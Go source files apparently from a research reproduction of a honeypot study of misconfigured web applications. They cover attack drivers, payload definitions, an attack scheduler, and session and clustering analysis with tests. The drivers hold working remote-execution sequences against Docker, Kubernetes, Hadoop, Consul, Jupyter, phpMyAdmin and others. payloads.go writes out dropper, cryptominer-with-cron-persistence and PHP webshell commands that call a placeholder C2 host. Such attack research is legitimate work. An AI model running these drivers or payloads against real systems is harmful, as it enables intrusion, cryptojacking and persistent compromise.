		resp, err := postForm(ctx, c, base+"/admin", url.Values{"username": {"admin"}, "password": {pass}})
		if err != nil {
			return err
		}
		if err := expect2xx(resp, "grav create user"); err != nil {
			return err
		}
		resp, err = postForm(ctx, c, base+"/admin/tools", url.Values{"password": {pass}, "template": {cmd}})
		if err != nil {
			return err
		}
		return expect2xx(resp, "grav template edit")
	},
	mav.Joomla: func(ctx context.Context, c *http.Client, base, cmd string) error {
		const pass = "attacker-pass-1337"
		resp, err := postForm(ctx, c, base+"/installation/index.php", url.Values{
			"site_name": {"pwned"}, "admin_user": {"admin"}, "admin_password": {pass},
		})
		if err != nil {
			return err
		}
		if err := expect2xx(resp, "joomla install"); err != nil {
			return err
		}
		resp, err = postForm(ctx, c, base+"/administrator/index.php", url.Values{
			"password": {pass}, "template_source": {cmd},
		})
		if err != nil {
			return err
		}
		return expect2xx(resp, "joomla template edit")
	},
	mav.Drupal: func(ctx context.Context, c *http.Client, base, cmd string) error {
		resp, err := postForm(ctx, c, base+"/core/install.php", url.Values{
			"account_name": {"admin"}, "account_pass": {"attacker-pass-1337"},
		})
		if err != nil {
			return err
		}
		return expect2xx(resp, "drupal install")
	},
	mav.Kubernetes: func(ctx context.Context, c *http.Client, base, cmd string) error {
		body := map[string]interface{}{
			"apiVersion": "v1", "kind": "Pod",
			"metadata": map[string]string{"name": "sys-upgrade"},
			"spec": map[string]interface{}{
				"containers": []interface{}{map[string]interface{}{
					"name": "sys", "image": "alpine", "command": []string{"sh", "-c", cmd},
				}},
			},
		}
		resp, err := postJSON(ctx, c, base+"/api/v1/namespaces/default/pods", body)
		if err != nil {
			return err
		}
		return expect2xx(resp, "k8s pod create")
	},
	mav.Docker: func(ctx context.Context, c *http.Client, base, cmd string) error {
		resp, err := postJSON(ctx, c, base+"/containers/create", map[string]interface{}{
			"Image": "alpine:latest", "Cmd": []string{"sh", "-c", cmd},
			"HostConfig": map[string]interface{}{"Binds": []string{"/:/mnt"}},
		})
		if err != nil {
			return err
		}
		if err := expect2xx(resp, "docker create"); err != nil {
			return err
		}
		resp, err = post(ctx, c, base+"/containers/f1d2d2f924e986ac86fdf7b36c94bcdf32beec15/start", "application/json", "")
		if err != nil {
			return err
		}
		if err := discard(resp); err != nil {
			return fmt.Errorf("attacker: docker start: draining response: %w", err)
		}
		return nil
	},
	mav.Consul: func(ctx context.Context, c *http.Client, base, cmd string) error {
		body, _ := json.Marshal(map[string]interface{}{
			"Name": "health", "Args": []string{"sh", "-c", cmd}, "Interval": "10s",
		})
		req, err := http.NewRequestWithContext(ctx, http.MethodPut, base+"/v1/agent/check/register", bytes.NewReader(body))
		if err != nil {
			return err
		}
		req.Header.Set("Content-Type", "application/json")
		resp, err := c.Do(req)
		if err != nil {
			return err
		}
		return expect2xx(resp, "consul check register")
	},
	mav.Hadoop: func(ctx context.Context, c *http.Client, base, cmd string) error {
		// Fetch an application id first, as the real Kinsing exploit does.
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+"/ws/v1/cluster/apps/new-application", nil)
		if err != nil {
			return err
		}
		resp, err := c.Do(req)
		if err != nil {
			return err
		}
		if err := discard(resp); err != nil {
			return fmt.Errorf("attacker: hadoop new-application: draining response: %w", err)
		}
		resp, err = postJSON(ctx, c, base+"/ws/v1/cluster/apps", map[string]interface{}{
			"application-id":   "application_1623456789000_0001",
			"application-name": "hive-job",
			"am-container-spec": map[string]interface{}{
				"commands": map[string]string{"command": cmd},
			},
			"application-type": "YARN",
		})
		if err != nil {
			return err
		}
		return expect2xx(resp, "hadoop app submit")
	},
	mav.Nomad: func(ctx context.Context, c *http.Client, base, cmd string) error {
		parts := strings.Fields(cmd)
		command, args := "sh", []string{"-c", cmd}
		if len(parts) == 1 {
			command, args = parts[0], nil
		}
		resp, err := postJSON(ctx, c, base+"/v1/jobs", map[string]interface{}{
			"Job": map[string]interface{}{
				"ID": "batch-x", "Type": "batch",
				"TaskGroups": []interface{}{map[string]interface{}{
					"Tasks": []interface{}{map[string]interface{}{
						"Name": "t", "Driver": "raw_exec",
						"Config": map[string]interface{}{"command": command, "args": args},
					}},
				}},
			},
		})
		if err != nil {
			return err
		}
		return expect2xx(resp, "nomad job submit")
	},
	mav.JupyterLab:      jupyterDriver,
	mav.JupyterNotebook: jupyterDriver,
	mav.Zeppelin: func(ctx context.Context, c *http.Client, base, cmd string) error {
		resp, err := postJSON(ctx, c, base+"/api/notebook", map[string]interface{}{
			"name": "note", "paragraphs": []interface{}{map[string]string{"text": "%sh " + cmd}},
		})
		if err != nil {
			return err
		}
		return expect2xx(resp, "zeppelin note create")
	},
	mav.Polynote: func(ctx context.Context, c *http.Client, base, cmd string) error {
		resp, err := postJSON(ctx, c, base+"/ws", map[string]string{
			"cell": "1", "code": fmt.Sprintf("import sys, os; os.system(%q)", cmd),
		})
		if err != nil {
			return err
		}
		return expect2xx(resp, "polynote exec")
	},
	mav.Ajenti: func(ctx context.Context, c *http.Client, base, cmd string) error {
		resp, err := postForm(ctx, c, base+"/api/terminal/run", url.Values{"command": {cmd}})
		if err != nil {
			return err
		}
		return expect2xx(resp, "ajenti terminal")
	},
	mav.PhpMyAdmin: func(ctx context.Context, c *http.Client, base, cmd string) error {
		q := fmt.Sprintf("SELECT '%s' INTO OUTFILE '/var/www/html/sh.php'", cmd)
		resp, err := postForm(ctx, c, base+"/import.php", url.Values{"sql_query": {q}})
		if err != nil {
			return err
		}
		return expect2xx(resp, "phpmyadmin sql")
	},
	mav.Adminer: func(ctx context.Context, c *http.Client, base, cmd string) error {
		q := fmt.Sprintf("SELECT '%s' INTO OUTFILE '/var/www/html/sh.php'", cmd)
		resp, err := postForm(ctx, c, base+"/adminer.php", url.Values{"query": {q}})
		if err != nil {
			return err
		}
		return expect2xx(resp, "adminer sql")
	},
}

func jupyterDriver(ctx context.Context, c *http.Client, base, cmd string) error {
	resp, err := post(ctx, c, base+"/api/terminals", "application/json", "")
	if err != nil {
		return err
	}
	if err := expect2xx(resp, "jupyter terminal create"); err != nil {
		return err
	}
	resp, err = postJSON(ctx, c, base+"/api/terminals/1/input", map[string]string{"command": cmd})
	if err != nil {
		return err
	}
	return expect2xx(resp, "jupyter terminal input")
}

// Exploit runs the application-specific attack procedure.
func Exploit(ctx context.Context, client *http.Client, app mav.App, base, command string) error {
	d, ok := drivers[app]
	if !ok {
		return fmt.Errorf("attacker: no exploit driver for %s", app)
	}
	return d(ctx, client, base, command)
}
