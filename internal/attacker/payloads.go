package attacker

import "fmt"

// Family names a payload family observed in the wild during the study.
type Family string

// The payload families the paper attributes attacks to (Section 4.3).
const (
	// FamilyMiner is the Monero cryptominer that kills competing malware
	// and persists through a cronjob.
	FamilyMiner Family = "monero-miner"
	// FamilyKinsing is the Kinsing campaign, which moved from Docker to
	// Hadoop during the study period.
	FamilyKinsing Family = "kinsing"
	// FamilyDropper is a generic stage-one dropper (wget/curl | sh).
	FamilyDropper Family = "dropper"
	// FamilyVigilante shuts servers down without further malice.
	FamilyVigilante Family = "vigilante"
	// FamilySpam hijacks CMS installations for SEO spam.
	FamilySpam Family = "seo-spam"
)

// Payload is one concrete attack payload: a family plus a variant, which
// fixes the command string. Repeated attacks with the same payload are
// "known" in the analysis; a new variant is a new unique attack.
type Payload struct {
	Family  Family
	Variant int
}

// Command renders the shell command the payload executes. Variants differ
// in their staging host, so distinct variants produce distinct commands.
func (p Payload) Command() string {
	c2 := fmt.Sprintf("203.0.113.%d", 10+p.Variant%200)
	switch p.Family {
	case FamilyMiner:
		return fmt.Sprintf(
			"(curl -s http://%s/mi.sh || wget -q -O- http://%s/mi.sh) | sh; "+
				"pkill -9 -f kdevtmpfsi; pkill -9 -f kinsing; "+
				"./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44mv%02d --background; "+
				"(crontab -l; echo '*/10 * * * * curl -s http://%s/mi.sh | sh') | crontab -",
			c2, c2, p.Variant, c2)
	case FamilyKinsing:
		return fmt.Sprintf(
			"wget -q -O /tmp/kinsing http://%s/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing; "+
				"wget -q -O /tmp/kdevtmpfsi http://%s/kdevtmpfsi",
			c2, c2)
	case FamilyDropper:
		return fmt.Sprintf("curl -fsSL http://%s/x%d.sh | sh", c2, p.Variant)
	case FamilyVigilante:
		return "echo 'this server is insecure, closing it for your own good'; shutdown -h now"
	case FamilySpam:
		return fmt.Sprintf("<?php /* pharma-spam v%d */ eval(base64_decode($_GET['q'])); system($_GET['c']); ?>", p.Variant)
	default:
		return "id"
	}
}

// Key is a stable identity for payload clustering.
func (p Payload) Key() string { return fmt.Sprintf("%s#%d", p.Family, p.Variant) }
