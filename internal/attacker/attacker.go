// Package attacker models the attacker population observed by the paper's
// honeypot study and replays it against live honeypots over a simulated
// four-week timeline. Attacks are real HTTP exploitation sequences (see
// drivers.go) issued from actor-owned source addresses, so the honeypot's
// monitoring records them exactly as it would record attackers in the
// wild.
package attacker

import (
	"context"
	"math"
	"math/rand"
	"net/netip"
	"sort"
	"time"

	"mavscan/internal/geo"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/resilience"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
)

// StudyDuration is the honeypot exposure window (four weeks).
const StudyDuration = 28 * 24 * time.Hour

// Attack is one planned exploitation of one honeypot.
type Attack struct {
	Time    time.Time
	Actor   string
	App     mav.App
	SrcIP   netip.Addr
	Payload Payload
}

// Plan is a full four-week attack schedule.
type Plan struct {
	Start   time.Time
	Attacks []Attack // sorted by time
	// ActorIPs records each actor's full source pool.
	ActorIPs map[string][]netip.Addr
}

// BuildPlan instantiates the calibrated roster into a concrete schedule.
// Source addresses are drawn from db's allocations; seed fixes all
// randomness.
func BuildPlan(db *geo.DB, start time.Time, seed int64) *Plan {
	rng := rand.New(rand.NewSource(seed))
	plan := &Plan{Start: start, ActorIPs: map[string][]netip.Addr{}}
	used := map[netip.Addr]bool{}
	variantSeq := map[Family]int{}

	ipIn := func(spec ipSpec) netip.Addr {
		prefix, err := db.PrefixFor(func(r geo.Record) bool {
			return r.Country == spec.country && r.ASN == spec.asn
		})
		if err != nil {
			prefix = db.Prefixes()[0]
		}
		for {
			off := rng.Intn(1 << (32 - prefix.Bits()))
			base := prefix.Addr().As4()
			v := (uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])) + uint32(off)
			ip := netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
			if !used[ip] {
				used[ip] = true
				return ip
			}
		}
	}

	for _, spec := range roster() {
		var pool []netip.Addr
		for _, is := range spec.ips {
			for i := 0; i < is.n; i++ {
				pool = append(pool, ipIn(is))
			}
		}
		plan.ActorIPs[spec.name] = pool

		for _, job := range spec.jobs {
			// Allocate globally unique payload variants for this actor's
			// activity against this app.
			variants := make([]Payload, job.variants)
			for i := range variants {
				variantSeq[job.family]++
				variants[i] = Payload{Family: job.family, Variant: variantSeq[job.family]}
			}
			times := scheduleTimes(rng, job, start)
			for i, at := range times {
				// The first attacks pair fresh variants with fresh source
				// addresses (these are the "unique" attacks); afterwards
				// both are reused at random — deterministic rotation would
				// partition an actor's activity into disjoint
				// (IP, payload) classes that the clustering could not
				// re-link.
				v := variants[rng.Intn(len(variants))]
				ip := pool[rng.Intn(len(pool))]
				if i < len(variants) {
					v = variants[i]
					ip = pool[i%len(pool)]
				}
				plan.Attacks = append(plan.Attacks, Attack{
					Time:    at,
					Actor:   spec.name,
					App:     job.app,
					SrcIP:   ip,
					Payload: v,
				})
			}
		}
	}
	sort.Slice(plan.Attacks, func(i, j int) bool { return plan.Attacks[i].Time.Before(plan.Attacks[j].Time) })
	return plan
}

// scheduleTimes produces the attack instants for one assignment. The first
// attack fires exactly at the assignment's start hour; the rest follow an
// exponential inter-arrival process filling the remaining window, or a
// late-ramp profile for assignments flagged rampLate.
func scheduleTimes(rng *rand.Rand, job assignment, start time.Time) []time.Time {
	out := make([]time.Time, 0, job.attacks)
	windowH := StudyDuration.Hours() - job.startHour
	if job.attacks == 0 || windowH <= 0 {
		return out
	}
	first := start.Add(time.Duration(job.startHour * float64(time.Hour)))
	out = append(out, first)
	if job.attacks == 1 {
		return out
	}
	if job.rampLate {
		// Quadratic ramp: activity concentrates toward the study's end.
		for i := 1; i < job.attacks; i++ {
			u := rng.Float64()
			h := job.startHour + windowH*(1-u*u)
			out = append(out, start.Add(time.Duration(h*float64(time.Hour))))
		}
		sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
		return out
	}
	mean := windowH / float64(job.attacks)
	h := job.startHour
	for i := 1; i < job.attacks; i++ {
		h += mean * expSample(rng)
		if h >= StudyDuration.Hours() {
			// Wrap into the window uniformly rather than piling at the end.
			h = job.startHour + rng.Float64()*windowH
		}
		out = append(out, start.Add(time.Duration(h*float64(time.Hour))))
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}

// expSample draws from Exp(1), clamped to avoid degenerate tails.
func expSample(rng *rand.Rand) float64 {
	v := -math.Log(1 - rng.Float64())
	if v > 6 {
		v = 6
	}
	return v
}

// TargetMap locates the honeypot address and scheme for each application.
type TargetMap map[mav.App]struct {
	IP   netip.Addr
	Port int
}

// Executor replays a plan against honeypots on the simulated clock.
type Executor struct {
	Net     *simnet.Network
	Clock   *simtime.Sim
	Targets TargetMap
	// Executed records the attacks whose exploit sequence succeeded; this
	// is the attacker-side ground truth the analysis is validated against.
	Executed []Attack
	// Failed records attacks whose exploitation did not complete (e.g. a
	// CMS already hijacked and not yet restored).
	Failed []Attack
	// Resilience, when enabled, retries each attack's HTTP requests under
	// the given policy — modeling attackers that persist through transient
	// network failures instead of giving up on the first dropped request.
	Resilience resilience.Policy
}

// Schedule enqueues every attack of the plan on the simulated clock. Run
// the clock (sim.Run or AdvanceTo) to execute them.
func (e *Executor) Schedule(plan *Plan) {
	for _, atk := range plan.Attacks {
		atk := atk
		target, ok := e.Targets[atk.App]
		if !ok {
			continue
		}
		e.Clock.At(atk.Time, func(time.Time) {
			client := httpsim.NewClient(e.Net, httpsim.ClientOptions{
				SourceIP:          atk.SrcIP,
				Timeout:           30 * time.Second,
				DisableKeepAlives: true,
			})
			if e.Resilience.Enabled() {
				retr := resilience.New(e.Resilience, nil)
				client.Transport = retr.RoundTripper(client.Transport)
			}
			base := "http://" + target.IP.String() + ":" + itoa(target.Port)
			err := Exploit(context.Background(), client, atk.App, base, atk.Payload.Command())
			if err != nil {
				e.Failed = append(e.Failed, atk)
				return
			}
			e.Executed = append(e.Executed, atk)
		})
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [8]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
