// Package analysis turns the raw monitoring event stream into the paper's
// measurements: attack sessionization (RQ4), time-to-compromise statistics
// (RQ5), attacker clustering and geography (RQ6), and the version-age and
// longevity aggregations behind Figures 1 and 2.
package analysis

import (
	"net/netip"
	"sort"
	"time"

	"mavscan/internal/eslite"
	"mavscan/internal/geo"
	"mavscan/internal/mav"
)

// SessionWindow is the paper's attack grouping rule: commands from the
// same source IP within 15 minutes count as a single attack.
const SessionWindow = 15 * time.Minute

// Attack is one sessionized attack on one honeypot.
type Attack struct {
	App      mav.App
	Host     string
	Src      netip.Addr
	Start    time.Time
	End      time.Time
	Commands []string
	// Payload identifies the attack content for clustering; the paper
	// groups by payload semi-automatically, we use the first command.
	Payload string
	// Unique is set by Uniquify: true when both the payload and the
	// source IP were never seen before on this application.
	Unique bool
}

// Sessionize groups the store's exec events into attacks using the
// 15-minute source-IP window.
func Sessionize(store *eslite.Store) []Attack {
	events := store.Search(eslite.Query{Type: "exec"})
	type key struct {
		src  string
		host string
	}
	open := map[key]*Attack{}
	var out []*Attack
	for _, e := range events {
		k := key{src: e.Field("src"), host: e.Field("host")}
		cur := open[k]
		if cur != nil && e.Time.Sub(cur.End) <= SessionWindow {
			cur.End = e.Time
			cur.Commands = append(cur.Commands, e.Field("command"))
			continue
		}
		src, _ := netip.ParseAddr(e.Field("src"))
		atk := &Attack{
			App:      mav.App(e.Field("app")),
			Host:     e.Field("host"),
			Src:      src,
			Start:    e.Time,
			End:      e.Time,
			Commands: []string{e.Field("command")},
			Payload:  e.Field("command"),
		}
		open[k] = atk
		out = append(out, atk)
	}
	attacks := make([]Attack, len(out))
	for i, a := range out {
		attacks[i] = *a
	}
	sort.Slice(attacks, func(i, j int) bool { return attacks[i].Start.Before(attacks[j].Start) })
	return attacks
}

// Uniquify marks the unique attacks: per application, an attack is unique
// exactly when neither its payload nor its source IP was observed before
// (repeated attacks from known IPs or with known payloads are excluded, as
// in Table 6's uniqueness rule). The input must be time-sorted; it is
// modified in place and returned.
func Uniquify(attacks []Attack) []Attack {
	type appState struct {
		payloads map[string]bool
		ips      map[netip.Addr]bool
	}
	state := map[mav.App]*appState{}
	for i := range attacks {
		a := &attacks[i]
		st := state[a.App]
		if st == nil {
			st = &appState{payloads: map[string]bool{}, ips: map[netip.Addr]bool{}}
			state[a.App] = st
		}
		a.Unique = !st.payloads[a.Payload] && !st.ips[a.Src]
		st.payloads[a.Payload] = true
		st.ips[a.Src] = true
	}
	return attacks
}

// AppAttackStats is one row of Table 5.
type AppAttackStats struct {
	App       mav.App
	Attacks   int
	Unique    int
	UniqueIPs int
}

// Table5 computes the per-application attack statistics plus the global
// totals (the total row is not the sum of the rows: actors attack several
// applications).
func Table5(attacks []Attack) (rows []AppAttackStats, totalAttacks, totalUnique, totalIPs int) {
	perApp := map[mav.App]*AppAttackStats{}
	perAppIPs := map[mav.App]map[netip.Addr]bool{}
	allIPs := map[netip.Addr]bool{}
	for _, a := range attacks {
		st := perApp[a.App]
		if st == nil {
			st = &AppAttackStats{App: a.App}
			perApp[a.App] = st
			perAppIPs[a.App] = map[netip.Addr]bool{}
		}
		st.Attacks++
		if a.Unique {
			st.Unique++
			totalUnique++
		}
		perAppIPs[a.App][a.Src] = true
		allIPs[a.Src] = true
		totalAttacks++
	}
	for _, info := range mav.InScopeApps() {
		if st, ok := perApp[info.App]; ok {
			st.UniqueIPs = len(perAppIPs[info.App])
			rows = append(rows, *st)
		}
	}
	return rows, totalAttacks, totalUnique, len(allIPs)
}

// TimeStats is one row of Table 6, all values in hours.
type TimeStats struct {
	App mav.App
	// First is the time from exposure to the first attack.
	First float64
	// AvgAll is the average gap between consecutive attacks.
	AvgAll float64
	// ShortestUnique/LongestUnique/AvgUnique are gap statistics between
	// consecutive unique attacks (the first unique attack's gap is
	// measured from exposure).
	ShortestUnique float64
	LongestUnique  float64
	AvgUnique      float64
}

// Table6 computes the time-to-compromise statistics. start is the moment
// the honeypots were exposed.
func Table6(attacks []Attack, start time.Time) []TimeStats {
	byApp := map[mav.App][]Attack{}
	for _, a := range attacks {
		byApp[a.App] = append(byApp[a.App], a)
	}
	var out []TimeStats
	for _, info := range mav.InScopeApps() {
		as := byApp[info.App]
		if len(as) == 0 {
			continue
		}
		st := TimeStats{App: info.App}
		st.First = as[0].Start.Sub(start).Hours()
		if len(as) > 1 {
			var sum float64
			for i := 1; i < len(as); i++ {
				sum += as[i].Start.Sub(as[i-1].Start).Hours()
			}
			st.AvgAll = sum / float64(len(as)-1)
		} else {
			st.AvgAll = st.First
		}
		var uniqueGaps []float64
		prev := start
		for _, a := range as {
			if !a.Unique {
				continue
			}
			uniqueGaps = append(uniqueGaps, a.Start.Sub(prev).Hours())
			prev = a.Start
		}
		if len(uniqueGaps) > 0 {
			st.ShortestUnique = uniqueGaps[0]
			st.LongestUnique = uniqueGaps[0]
			var sum float64
			for _, g := range uniqueGaps {
				if g < st.ShortestUnique {
					st.ShortestUnique = g
				}
				if g > st.LongestUnique {
					st.LongestUnique = g
				}
				sum += g
			}
			st.AvgUnique = sum / float64(len(uniqueGaps))
		}
		out = append(out, st)
	}
	return out
}

// CountryStats is one row of Table 7.
type CountryStats struct {
	Country string
	Attacks int
	ASes    int
}

// Table7 aggregates attacks by source country with the count of involved
// autonomous systems, sorted by attack count descending.
func Table7(attacks []Attack, db *geo.DB) []CountryStats {
	perCountry := map[string]int{}
	perCountryAS := map[string]map[string]bool{}
	for _, a := range attacks {
		rec := db.Lookup(a.Src)
		perCountry[rec.Country]++
		if perCountryAS[rec.Country] == nil {
			perCountryAS[rec.Country] = map[string]bool{}
		}
		perCountryAS[rec.Country][rec.ASN] = true
	}
	var out []CountryStats
	for c, n := range perCountry {
		out = append(out, CountryStats{Country: c, Attacks: n, ASes: len(perCountryAS[c])})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Attacks != out[j].Attacks {
			return out[i].Attacks > out[j].Attacks
		}
		return out[i].Country < out[j].Country
	})
	return out
}

// ASStats is one row of Table 8.
type ASStats struct {
	ASN       string
	Provider  string
	Attacks   int
	Countries int
}

// Table8 aggregates attacks by source AS with the count of involved
// countries, sorted by attack count descending.
func Table8(attacks []Attack, db *geo.DB) []ASStats {
	type asAgg struct {
		provider  string
		attacks   int
		countries map[string]bool
	}
	perAS := map[string]*asAgg{}
	for _, a := range attacks {
		rec := db.Lookup(a.Src)
		agg := perAS[rec.ASN]
		if agg == nil {
			agg = &asAgg{provider: rec.Provider, countries: map[string]bool{}}
			perAS[rec.ASN] = agg
		}
		agg.attacks++
		agg.countries[rec.Country] = true
	}
	var out []ASStats
	for asn, agg := range perAS {
		out = append(out, ASStats{ASN: asn, Provider: agg.provider, Attacks: agg.attacks, Countries: len(agg.countries)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Attacks != out[j].Attacks {
			return out[i].Attacks > out[j].Attacks
		}
		return out[i].ASN < out[j].ASN
	})
	return out
}
