package analysis

import (
	"net/netip"
	"sort"

	"mavscan/internal/mav"
)

// Attacker clustering (RQ6): the paper groups attacks into attackers by
// shared payloads and shared source IPs, semi-automatically. We implement
// the same rule as a union-find over attacks: two attacks belong to the
// same attacker if they share a payload or a source address.

// AttackerCluster is one inferred attacker.
type AttackerCluster struct {
	// ID is a stable ordinal (sorted by attack count descending).
	ID int
	// Attacks is the total number of attacks attributed to the cluster.
	Attacks int
	// Apps is the set of applications the attacker targeted, in catalog
	// order.
	Apps []mav.App
	// IPs is the attacker's distinct source addresses.
	IPs []netip.Addr
}

type unionFind struct {
	parent []int
}

func newUnionFind(n int) *unionFind {
	uf := &unionFind{parent: make([]int, n)}
	for i := range uf.parent {
		uf.parent[i] = i
	}
	return uf
}

func (uf *unionFind) find(x int) int {
	for uf.parent[x] != x {
		uf.parent[x] = uf.parent[uf.parent[x]]
		x = uf.parent[x]
	}
	return x
}

func (uf *unionFind) union(a, b int) {
	ra, rb := uf.find(a), uf.find(b)
	if ra != rb {
		uf.parent[ra] = rb
	}
}

// ClusterAttackers links attacks into attacker clusters.
func ClusterAttackers(attacks []Attack) []AttackerCluster {
	uf := newUnionFind(len(attacks))
	byPayload := map[string]int{}
	byIP := map[netip.Addr]int{}
	for i, a := range attacks {
		if j, ok := byPayload[a.Payload]; ok {
			uf.union(i, j)
		} else {
			byPayload[a.Payload] = i
		}
		if j, ok := byIP[a.Src]; ok {
			uf.union(i, j)
		} else {
			byIP[a.Src] = i
		}
	}
	type agg struct {
		attacks int
		apps    map[mav.App]bool
		ips     map[netip.Addr]bool
	}
	clusters := map[int]*agg{}
	for i, a := range attacks {
		root := uf.find(i)
		c := clusters[root]
		if c == nil {
			c = &agg{apps: map[mav.App]bool{}, ips: map[netip.Addr]bool{}}
			clusters[root] = c
		}
		c.attacks++
		c.apps[a.App] = true
		c.ips[a.Src] = true
	}
	out := make([]AttackerCluster, 0, len(clusters))
	for _, c := range clusters {
		cluster := AttackerCluster{Attacks: c.attacks}
		for _, info := range mav.InScopeApps() {
			if c.apps[info.App] {
				cluster.Apps = append(cluster.Apps, info.App)
			}
		}
		for ip := range c.ips {
			cluster.IPs = append(cluster.IPs, ip)
		}
		sort.Slice(cluster.IPs, func(i, j int) bool { return cluster.IPs[i].Less(cluster.IPs[j]) })
		out = append(out, cluster)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Attacks != out[j].Attacks {
			return out[i].Attacks > out[j].Attacks
		}
		return len(out[i].IPs) > len(out[j].IPs)
	})
	for i := range out {
		out[i].ID = i + 1
	}
	return out
}

// TopShare returns the fraction of all attacks carried out by the top-n
// clusters.
func TopShare(clusters []AttackerCluster, n int) float64 {
	total, top := 0, 0
	for i, c := range clusters {
		total += c.Attacks
		if i < n {
			top += c.Attacks
		}
	}
	if total == 0 {
		return 0
	}
	return float64(top) / float64(total)
}

// MultiAppAttackers returns the clusters targeting at least two
// applications — the attackers plotted in Figure 4.
func MultiAppAttackers(clusters []AttackerCluster) []AttackerCluster {
	var out []AttackerCluster
	for _, c := range clusters {
		if len(c.Apps) >= 2 {
			out = append(out, c)
		}
	}
	return out
}
