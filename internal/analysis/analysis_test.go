package analysis

import (
	"fmt"
	"net/netip"
	"testing"
	"testing/quick"
	"time"

	"mavscan/internal/eslite"
	"mavscan/internal/geo"
	"mavscan/internal/mav"
)

var t0 = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)

func execEvent(offset time.Duration, host, app, src, command string) eslite.Event {
	return eslite.Event{
		Time: t0.Add(offset),
		Type: "exec",
		Fields: map[string]string{
			"host": host, "app": app, "src": src, "command": command,
		},
	}
}

func TestSessionizeFifteenMinuteWindow(t *testing.T) {
	var store eslite.Store
	// Three commands within rolling 15-minute gaps: one attack.
	store.Append(execEvent(0, "10.30.0.1", "Hadoop", "1.1.1.1", "c1"))
	store.Append(execEvent(10*time.Minute, "10.30.0.1", "Hadoop", "1.1.1.1", "c2"))
	store.Append(execEvent(22*time.Minute, "10.30.0.1", "Hadoop", "1.1.1.1", "c3"))
	// A fourth after a >15-minute silence: a new attack.
	store.Append(execEvent(60*time.Minute, "10.30.0.1", "Hadoop", "1.1.1.1", "c4"))
	// A different source in between: its own attack.
	store.Append(execEvent(5*time.Minute, "10.30.0.1", "Hadoop", "2.2.2.2", "x"))

	attacks := Sessionize(&store)
	if len(attacks) != 3 {
		t.Fatalf("sessionized into %d attacks, want 3", len(attacks))
	}
	if len(attacks[0].Commands) != 3 {
		t.Fatalf("first attack has %d commands, want 3", len(attacks[0].Commands))
	}
	if attacks[0].Payload != "c1" {
		t.Fatalf("payload = %q, want first command", attacks[0].Payload)
	}
}

func TestSessionizeSeparatesHosts(t *testing.T) {
	var store eslite.Store
	// Same source attacking two honeypots concurrently: two attacks.
	store.Append(execEvent(0, "10.30.0.1", "Hadoop", "1.1.1.1", "a"))
	store.Append(execEvent(time.Minute, "10.30.0.2", "Docker", "1.1.1.1", "b"))
	if got := len(Sessionize(&store)); got != 2 {
		t.Fatalf("attacks = %d, want 2", got)
	}
}

func TestUniquifyRule(t *testing.T) {
	mk := func(offset time.Duration, src, payload string) Attack {
		return Attack{App: mav.Hadoop, Src: netip.MustParseAddr(src), Start: t0.Add(offset), Payload: payload}
	}
	attacks := []Attack{
		mk(0, "1.1.1.1", "p1"),           // new payload, new IP → unique
		mk(time.Hour, "1.1.1.1", "p2"),   // new payload, KNOWN IP → not unique
		mk(2*time.Hour, "2.2.2.2", "p1"), // KNOWN payload, new IP → not unique
		mk(3*time.Hour, "3.3.3.3", "p3"), // both new → unique
	}
	Uniquify(attacks)
	want := []bool{true, false, false, true}
	for i, a := range attacks {
		if a.Unique != want[i] {
			t.Errorf("attack %d unique=%v, want %v", i, a.Unique, want[i])
		}
	}
}

func TestUniquifyIsPerApp(t *testing.T) {
	attacks := []Attack{
		{App: mav.Hadoop, Src: netip.MustParseAddr("1.1.1.1"), Start: t0, Payload: "p"},
		{App: mav.Docker, Src: netip.MustParseAddr("1.1.1.1"), Start: t0.Add(time.Hour), Payload: "p"},
	}
	Uniquify(attacks)
	if !attacks[0].Unique || !attacks[1].Unique {
		t.Fatal("uniqueness must be tracked per application")
	}
}

func TestTable5Aggregation(t *testing.T) {
	ipA, ipB := netip.MustParseAddr("1.1.1.1"), netip.MustParseAddr("2.2.2.2")
	attacks := Uniquify([]Attack{
		{App: mav.Hadoop, Src: ipA, Start: t0, Payload: "p1"},
		{App: mav.Hadoop, Src: ipA, Start: t0.Add(time.Hour), Payload: "p1"},
		{App: mav.Hadoop, Src: ipB, Start: t0.Add(2 * time.Hour), Payload: "p2"},
		{App: mav.Docker, Src: ipA, Start: t0.Add(3 * time.Hour), Payload: "p3"},
	})
	rows, total, unique, ips := Table5(attacks)
	if total != 4 || unique != 3 || ips != 2 {
		t.Fatalf("totals = %d/%d/%d, want 4/3/2", total, unique, ips)
	}
	if len(rows) != 2 {
		t.Fatalf("rows = %d", len(rows))
	}
	// Rows come in catalog order: Docker (CM) before Hadoop (CM, later row)?
	// Catalog order within CM: Kubernetes, Docker, Consul, Hadoop, Nomad.
	if rows[0].App != mav.Docker || rows[1].App != mav.Hadoop {
		t.Fatalf("row order: %v, %v", rows[0].App, rows[1].App)
	}
	if rows[1].Attacks != 3 || rows[1].Unique != 2 || rows[1].UniqueIPs != 2 {
		t.Fatalf("hadoop row: %+v", rows[1])
	}
}

func TestTable6Gaps(t *testing.T) {
	ip := netip.MustParseAddr("1.1.1.1")
	attacks := Uniquify([]Attack{
		{App: mav.Docker, Src: ip, Start: t0.Add(2 * time.Hour), Payload: "p1"},
		{App: mav.Docker, Src: ip, Start: t0.Add(6 * time.Hour), Payload: "p1"},
		{App: mav.Docker, Src: ip, Start: t0.Add(14 * time.Hour), Payload: "p1"},
	})
	stats := Table6(attacks, t0)
	if len(stats) != 1 {
		t.Fatalf("stats rows = %d", len(stats))
	}
	s := stats[0]
	if s.First != 2 {
		t.Errorf("First = %v, want 2", s.First)
	}
